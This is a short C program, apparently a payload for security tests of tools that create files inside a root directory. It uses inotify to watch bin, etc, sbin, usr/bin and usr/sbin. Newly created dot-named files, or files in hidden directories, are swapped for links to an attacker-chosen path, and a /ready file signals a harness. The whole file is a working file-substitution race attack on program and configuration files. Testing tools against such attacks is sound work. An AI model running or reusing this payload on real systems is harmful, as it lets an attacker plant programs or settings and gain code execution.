/* A payload against whoever makes files in its root and trusts their names. Static.
 *
 * swap PATH: whatever appears in a directory where programs or settings are, under a name with a
 * dot, is replaced by a link to PATH; or by PATH itself, where that is a file of this root.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

enum { PLACES = 256 };
static char places[PLACES][512]; /* by watch descriptor */
static const char *swap_for;

/* Puts a link to swap_for where name is, or that file itself where this root has it. */
static void swap_name(const char *place, const char *name)
{
	char path[512];
	struct stat is, want;

	snprintf(path, sizeof(path), "%s/%s", place, name);
	if (lstat(path, &is) < 0 || !S_ISREG(is.st_mode) ||
	    (stat(swap_for, &want) == 0 && is.st_ino == want.st_ino))
		return;
	unlink("/swap");
	if (link(swap_for, "/swap") == 0 || symlink(swap_for, "/swap") == 0)
		rename("/swap", path);
}

/* A program is swapped only once there is another file beside it: it has been looked at by then. */
static void swap_beside(const char *place, const char *name)
{
	DIR *dir = opendir(place);
	struct dirent *entry;

	while (dir && (entry = readdir(dir)))
		if (strcmp(entry->d_name, name) != 0)
			swap_name(place, entry->d_name);
	if (dir)
		closedir(dir);
}

static void place_add(int fd, const char *place, const char *name)
{
	char path[512];
	int watch;

	snprintf(path, sizeof(path), "%s/%s", place, name);
	watch = inotify_add_watch(fd, path, IN_CREATE | IN_MOVED_TO | IN_ONLYDIR | IN_DONT_FOLLOW);
	if (watch >= 0 && watch < PLACES)
		snprintf(places[watch], sizeof(places[watch]), "%s", path);
}

static void swap_seen(int fd, const struct inotify_event *event)
{
	const char *place = places[event->wd];
	bool is_private = strstr(place, "/.") != NULL;

	if (!is_private && event->name[0] != '.')
		return;
	if (event->mask & IN_ISDIR)
		place_add(fd, place, event->name);
	else if (is_private && access(swap_for, F_OK) == 0)
		swap_beside(place, event->name);
	else
		swap_name(place, event->name);
}

int main(int argc, char **argv)
{
	static const char *const watched[] = {"", "bin", "etc", "sbin", "usr/bin", "usr/sbin"};
	char events[65536] __attribute__((aligned(8)));
	int fd = inotify_init1(IN_CLOEXEC);
	ssize_t size;

	if (argc != 2)
		return 2;
	swap_for = argv[1];
	for (size_t i = 0; i < sizeof(watched) / sizeof(watched[0]); i++)
		place_add(fd, "", watched[i]);
	close(open("/ready", O_CREAT | O_WRONLY, 0644));
	while ((size = read(fd, events, sizeof(events))) > 0)
		for (char *at = events; at < events + size;) {
			const struct inotify_event *event = (void *)at;

			if (event->wd > 0 && event->wd < PLACES && event->len)
				swap_seen(fd, event);
			at += sizeof(*event) + event->len;
		}
	return 1;
}
